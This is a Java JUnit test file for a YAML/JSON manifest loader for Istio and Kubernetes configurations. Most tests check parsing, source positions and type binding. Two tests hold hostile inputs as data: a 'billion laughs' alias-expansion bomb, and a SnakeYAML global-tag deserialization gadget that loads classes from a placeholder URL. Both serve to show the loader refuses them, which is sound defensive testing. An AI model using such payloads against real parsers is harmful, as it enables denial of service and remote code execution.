package dev.meshport.model.load;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.meshport.model.FieldPath;
import dev.meshport.model.Finding;
import dev.meshport.model.Manifest;
import dev.meshport.model.ManifestSet;
import dev.meshport.model.SourcePosition;
import dev.meshport.model.kinds.Mesh;
import io.fabric8.istio.api.networking.v1.VirtualService;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ManifestLoaderTest {

    private final ManifestLoader loader = new ManifestLoader();

    private static final String VS = """
            apiVersion: networking.istio.io/v1
            kind: VirtualService
            metadata:
              name: reviews
              namespace: bookinfo
            spec:
              hosts:
              - reviews
              http:
              - route:
                - destination:
                    host: reviews
                    subset: v1
                  weight: 80
                - destination: {host: reviews, subset: v2}
                  weight: 20
            """;

    @Test
    void recordsThePositionOfEveryKeyAndListItem() {
        Manifest m = single(loader.loadText("vs.yaml", VS));

        assertThat(m.position(FieldPath.parse("spec.http[0].route[0].weight"))).isEqualTo(new SourcePosition(14, 7));
        assertThat(m.position(FieldPath.parse("spec.hosts[0]"))).isEqualTo(new SourcePosition(8, 5));
        assertThat(m.position(FieldPath.parse("spec.http[0].route[1].destination.subset"))).isEqualTo(new SourcePosition(15, 36));
        assertThat(m.position(FieldPath.parse("metadata.name"))).isEqualTo(new SourcePosition(4, 3));
    }

    @Test
    void aMissingFieldResolvesToItsNearestEnclosingField() {
        Manifest m = single(loader.loadText("vs.yaml", VS));

        assertThat(m.has(FieldPath.parse("spec.http[0].timeout"))).isFalse();
        // The enclosing list item: its content starts after the "- ".
        assertThat(m.position(FieldPath.parse("spec.http[0].timeout"))).isEqualTo(new SourcePosition(10, 5));
    }

    @Test
    void bindsIstioKindsOfEveryServedVersionToOneModel() {
        for (String version : List.of("v1alpha3", "v1beta1", "v1")) {
            Manifest m = single(loader.loadText("vs.yaml", VS.replace("networking.istio.io/v1", "networking.istio.io/" + version)));
            assertThat(m.mesh()).isEqualTo(Mesh.ISTIO);
            VirtualService vs = m.typed(VirtualService.class).orElseThrow();
            assertThat(vs.getSpec().getHttp().get(0).getRoute().get(1).getWeight()).isEqualTo(20);
            assertThat(vs.getApiVersion()).isEqualTo("networking.istio.io/" + version);
        }
    }

    @Test
    void readsMultiDocumentYamlAndListItems() {
        String text = VS + "---\n" + """
                apiVersion: v1
                kind: List
                items:
                - apiVersion: v1
                  kind: Service
                  metadata: {name: reviews, namespace: bookinfo}
                  spec:
                    ports: [{port: 9080, name: http}]
                - apiVersion: v1
                  kind: ConfigMap
                  metadata: {name: ignored}
                """;
        ManifestSet set = loader.loadText("all.yaml", text);

        assertThat(set.all()).extracting(Manifest::kind).containsExactly("VirtualService", "Service");
        Manifest service = set.ofKind("Service").get(0);
        assertThat(service.document()).isEqualTo(1);
        assertThat(service.base()).hasToString("items[0]");
        assertThat(service.position(FieldPath.parse("spec.ports[0].port"))).isEqualTo(new SourcePosition(25, 14));
        assertThat(set.skipped()).isEqualTo(1);
        assertThat(set.loadFindings()).isEmpty();
    }

    @Test
    void readsJson() {
        String json = """
                {
                  "apiVersion": "security.istio.io/v1",
                  "kind": "PeerAuthentication",
                  "metadata": {"name": "default", "namespace": "istio-system"},
                  "spec": {"mtls": {"mode": "STRICT"}}
                }
                """;
        Manifest m = single(loader.loadText("pa.json", json));

        assertThat(m.position(FieldPath.parse("spec.mtls.mode"))).isEqualTo(new SourcePosition(5, 21));
        assertThat(m.typeProblem()).isEmpty();
    }

    @Test
    void aSyntaxErrorIsReportedAndLoadingGoesOnWithTheNextDocument() {
        String text = """
                apiVersion: v1
                kind: Service
                metadata:
                  name: a
                  labels: {app: [unclosed
                ---
                apiVersion: v1
                kind: Service
                metadata:
                  name: b
                """;
        ManifestSet set = loader.loadText("broken.yaml", text);

        assertThat(set.all()).extracting(m -> m.id().name()).containsExactly("b");
        assertThat(set.ofKind("Service").get(0).position(FieldPath.parse("metadata.name"))).isEqualTo(new SourcePosition(10, 3));
        Finding syntax = set.loadFindings().get(0);
        assertThat(syntax.rule()).isEqualTo(LoadProblem.SYNTAX);
        assertThat(syntax.location().line()).isEqualTo(6);
        assertThat(syntax.location().file()).isEqualTo("broken.yaml");
    }

    @Test
    void reportsDuplicateKeysWithBothPositions() {
        ManifestSet set = loader.loadText("dup.yaml", """
                apiVersion: v1
                kind: Service
                metadata:
                  name: a
                  name: b
                """);

        Finding dup = set.loadFindings().get(0);
        assertThat(dup.rule()).isEqualTo(LoadProblem.DUPLICATE_KEY);
        assertThat(dup.location().position()).isEqualTo(new SourcePosition(5, 3));
        assertThat(dup.message()).contains("first at line 4");
        assertThat(single(set).id().name()).isEqualTo("b");
    }

    @Test
    void refusesABillionLaughsDocumentQuickly() {
        StringBuilder text = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        loader.loadText("warm.yaml", "a: [1]\n"); // measure the refusal, not class loading
        char prev = 'a';
        for (char c = 'b'; c <= 'i'; c++) {
            text.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                text.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            text.append("]\n");
            prev = c;
        }
        long start = System.nanoTime();
        ManifestSet set = loader.loadText("lol.yaml", text.toString());
        long millis = (System.nanoTime() - start) / 1_000_000;

        assertThat(set.loadFindings()).extracting(Finding::rule).containsExactly(LoadProblem.LIMITS);
        assertThat(millis).isLessThan(100);
    }

    @Test
    void refusesADocumentThatExpandsPastTheNodeLimitWithFewAliases() {
        ManifestLoader small = new ManifestLoader(new LoadLimits(1 << 20, 100, 1000, 100));
        StringBuilder text = new StringBuilder("a: &a [1,2,3,4,5,6,7,8,9,10]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n");
        text.append("c: [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\n");

        ManifestSet set = small.loadText("wide.yaml", text.toString());

        assertThat(set.loadFindings()).extracting(Finding::rule).containsExactly(LoadProblem.LIMITS);
    }

    @Test
    void refusesGlobalTagsInsteadOfConstructingArbitraryTypes() {
        ManifestSet set = loader.loadText("evil.yaml", """
                apiVersion: v1
                kind: Service
                metadata:
                  name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                """);

        assertThat(set.all()).isEmpty();
        assertThat(set.loadFindings()).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo(LoadProblem.SYNTAX);
            assertThat(f.message()).contains("Global tag is not allowed");
            assertThat(f.location().position()).isEqualTo(new SourcePosition(4, 9));
        });
    }

    @Test
    void mergeKeysApplyWithExplicitKeysWinning() {
        Manifest m = single(loader.loadText("merge.yaml", """
                apiVersion: v1
                kind: Service
                metadata:
                  name: a
                  labels:
                    <<: {app: base, tier: web}
                    app: reviews
                """));

        assertThat(m.tree().path("metadata").path("labels").path("app").asText()).isEqualTo("reviews");
        assertThat(m.tree().path("metadata").path("labels").path("tier").asText()).isEqualTo("web");
        assertThat(m.tree().path("metadata").path("labels").size()).isEqualTo(2);
    }

    @Test
    void reportsDocumentsThatAreNotManifestsAndUnservedKindsOfMeshGroups() {
        ManifestSet set = loader.loadText("odd.yaml", """
                routes:
                - name: GET /books
                ---
                apiVersion: networking.istio.io/v2
                kind: VirtualService
                metadata: {name: x}
                ---
                apiVersion: cert-manager.io/v1
                kind: Certificate
                metadata: {name: skipped-silently}
                """);

        assertThat(set.loadFindings()).extracting(Finding::rule)
                .containsExactly(LoadProblem.NOT_A_MANIFEST, LoadProblem.UNKNOWN_KIND);
        assertThat(set.loadFindings().get(1).location().line()).isEqualTo(5);
        assertThat(set.skipped()).isEqualTo(1);
        assertThat(set.documents()).isEqualTo(3);
    }

    @Test
    void readsScalarTypesAsKubernetesDoes() {
        Manifest m = single(loader.loadText("s.yaml", """
                apiVersion: v1
                kind: Service
                metadata:
                  name: "0123"
                  labels: {a: "true", b: 'on'}
                spec:
                  ports:
                  - port: 0x1F90
                    targetPort: 9080
                  sessionAffinityConfig: {clientIP: {timeoutSeconds: 1_000}}
                """));

        assertThat(m.tree().at("/metadata/name").isTextual()).isTrue();
        assertThat(m.tree().at("/spec/ports/0/port").intValue()).isEqualTo(8080);
        assertThat(m.tree().at("/spec/sessionAffinityConfig/clientIP/timeoutSeconds").intValue()).isEqualTo(1000);
        assertThat(m.typeProblem()).isEmpty();
    }

    @Test
    void walksDirectoriesInAStableOrderAndRejectsMissingPaths(@TempDir Path dir) throws Exception {
        Files.createDirectories(dir.resolve("b/.git"));
        Files.writeString(dir.resolve("b/z.yaml"), "apiVersion: v1\nkind: Namespace\nmetadata: {name: z}\n");
        Files.writeString(dir.resolve("a.yml"), "apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n");
        Files.writeString(dir.resolve("b/.git/x.yaml"), "apiVersion: v1\nkind: Namespace\nmetadata: {name: hidden}\n");
        Files.writeString(dir.resolve("notes.txt"), "not read");

        List<SourceInput> inputs = InputFiles.expand(dir, "conf");

        assertThat(inputs).extracting(SourceInput::displayName).containsExactly("conf/a.yml", "conf/b/z.yaml");
        assertThatThrownBy(() -> InputFiles.expand(dir.resolve("nope"), "nope"))
                .isInstanceOf(InputException.class).hasMessage("nope: no such file or directory");
    }

    @Test
    void validValuesTheFabric8ModelCannotReadAreLeftOutOfTheTypedViewNotReported() {
        ManifestSet set = loader.loadText("defects.yaml", """
                apiVersion: extensions.istio.io/v1alpha1
                kind: WasmPlugin
                metadata: {name: w}
                spec:
                  url: oci://registry/plugin
                  match:
                  - mode: SERVER
                ---
                apiVersion: networking.istio.io/v1
                kind: DestinationRule
                metadata: {name: d}
                spec:
                  host: reviews
                  trafficPolicy:
                    loadBalancer:
                      consistentHash:
                        httpHeaderName: x-user
                        ringHash: {minimumRingSize: 1024}
                """);

        for (Manifest m : set.all()) {
            assertThat(m.typeProblem()).as(m.toString()).isEmpty();
            assertThat(m.typed()).isNotNull();
            assertThat(m.unknownFields()).isEmpty();
            assertThat(m.rejectedValues()).isEmpty();
        }
        assertThat(set.all().get(0).unmodelledFields()).extracting(FieldPath::toString).containsExactly("spec.match[0].mode");
        assertThat(set.all().get(1).unmodelledFields()).extracting(FieldPath::toString)
                .containsExactly("spec.trafficPolicy.loadBalancer.consistentHash.ringHash");
    }

    @Test
    void aTypeProblemNamesTheYamlPathNotTheModelsOneOfProperties() {
        Manifest m = single(loader.loadText("dr.yaml", """
                apiVersion: networking.istio.io/v1
                kind: DestinationRule
                metadata: {name: d}
                spec:
                  host: reviews
                  trafficPolicy:
                    loadBalancer:
                      consistentHash:
                        maglev: {tableSize: large}
                """));

        assertThat(m.typeProblem()).get().extracting(p -> p.field().toString())
                .isEqualTo("spec.trafficPolicy.loadBalancer.consistentHash.maglev.tableSize");
    }

    private static Manifest single(ManifestSet set) {
        assertThat(set.all()).hasSize(1);
        return set.all().get(0);
    }
}
